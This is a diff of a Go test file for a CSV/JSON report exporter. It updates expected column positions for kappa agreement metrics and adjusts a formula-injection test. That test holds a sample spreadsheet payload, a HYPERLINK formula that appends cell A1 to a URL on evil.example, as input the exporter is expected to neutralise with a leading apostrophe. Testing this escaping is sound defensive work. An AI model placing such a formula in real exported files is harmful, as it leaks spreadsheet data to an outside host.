@@ -483,13 +483,13 @@ func TestReportOutputs(t *testing.T) {
 	if len(lines) != 1+3*6 {
 		t.Fatalf("%d lines:\n%s", len(lines), csvOut.String())
 	}
-	if !strings.HasPrefix(lines[2], "tower,2,people,,,,kappa_human_human,-0.057143,") {
+	if !strings.HasPrefix(lines[2], "tower,2,people,,,,,,kappa_human_human,-0.057143,") {
 		t.Errorf("line 3: %s", lines[2])
 	}
-	if !strings.HasPrefix(lines[8], "tower,3,people,,,,kappa_human_human,,,,0,,6,") {
+	if !strings.HasPrefix(lines[8], "tower,3,people,,,,,,kappa_human_human,,,,0,,6,") {
 		t.Errorf("undefined kappa must be empty, not 0: %s", lines[8])
 	}
-	if !strings.HasPrefix(lines[3], "tower,2,people,,,,kappa_human_human_people,-0.057143,") {
+	if !strings.HasPrefix(lines[3], "tower,2,people,,,,,,kappa_human_human_people,-0.057143,") {
 		t.Errorf("the bootstrap over people has the same mean as over pairs: %s", lines[3])
 	}
 	js, err := json.Marshal(rep)
@@ -1018,10 +1018,10 @@ func TestReportCSVFormulaCells(t *testing.T) {
 		if rec[2] == "model" && (rec[3] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` || rec[4] != "'@SUM(1+1)") {
 			t.Errorf("model cells %q, %q: want a leading apostrophe", rec[3], rec[4])
 		}
-		if strings.HasPrefix(rec[7], "-") {
+		if strings.HasPrefix(rec[9], "-") {
 			negative = true
-			if _, err := strconv.ParseFloat(rec[7], 64); err != nil {
-				t.Errorf("negative value %q is no longer a number", rec[7])
+			if _, err := strconv.ParseFloat(rec[9], 64); err != nil {
+				t.Errorf("negative value %q is no longer a number", rec[9])
 			}
 		}
 	}
